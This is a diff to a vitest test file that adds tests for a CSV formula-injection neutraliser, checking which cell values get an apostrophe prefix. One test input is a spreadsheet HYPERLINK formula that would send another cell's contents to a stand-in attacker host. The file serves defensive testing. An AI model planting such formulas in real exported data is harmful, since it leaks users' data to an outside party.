@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { CsvReader, MAX_FIELD_CHARS, MAX_RECORD_CHARS, parseCsv, type CsvRow } from '../src/lib/csv.js';
-import { csvLine } from '../src/lib/csv-stream.js';
+import { csvLine, neutralise, safeCsvLine } from '../src/lib/csv-stream.js';
 import { InputFileError } from '../src/lib/errors.js';
 import { parsePostcodes } from '../src/modules/postcodes/postcodes.parser.js';
 
@@ -91,9 +91,29 @@ describe('CSV rows: a malformed record is one error row, the rows after it are k
 });
 
 describe('CSV output', () => {
-  it('writes RFC 4180 lines that csv-parse reads back', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A2,"Klick")', `'=HYPERLINK("http://evil.example/?"&A2,"Klick")`],
+    ['@SUM(1)', `'@SUM(1)`],
+    ['+49 30 1234', `'+49 30 1234`],
+    ['-2+3', `'-2+3`],
+    ['-', `'-`],
+    ['\t=1', `'\t=1`],
+    ['\r=1', `'\r=1`],
+    ['-12', '-12'],
+    ['+49', '+49'],
+    ['-1.5', '-1.5'],
+    ['-1,5', '-1,5'],
+    ['Detmold', 'Detmold'],
+    ['', ''],
+    [' =1', ' =1'],
+  ])('neutralises %j as %j', (cell, expected) => {
+    expect(neutralise(cell)).toBe(expected);
+  });
+
+  it('writes RFC 4180 lines that csv-parse reads back; the safe line holds the neutralised cells', () => {
     const cells = ['=1+1', 'a,b', 'say "hi"', 'two\nlines', '-12', true, null, 7];
     expect(parse(csvLine(cells))).toEqual([['=1+1', 'a,b', 'say "hi"', 'two\nlines', '-12', 'true', '', '7']]);
+    expect(parse(safeCsvLine(cells))).toEqual([[`'=1+1`, 'a,b', 'say "hi"', 'two\nlines', '-12', 'true', '', '7']]);
   });
 });
 
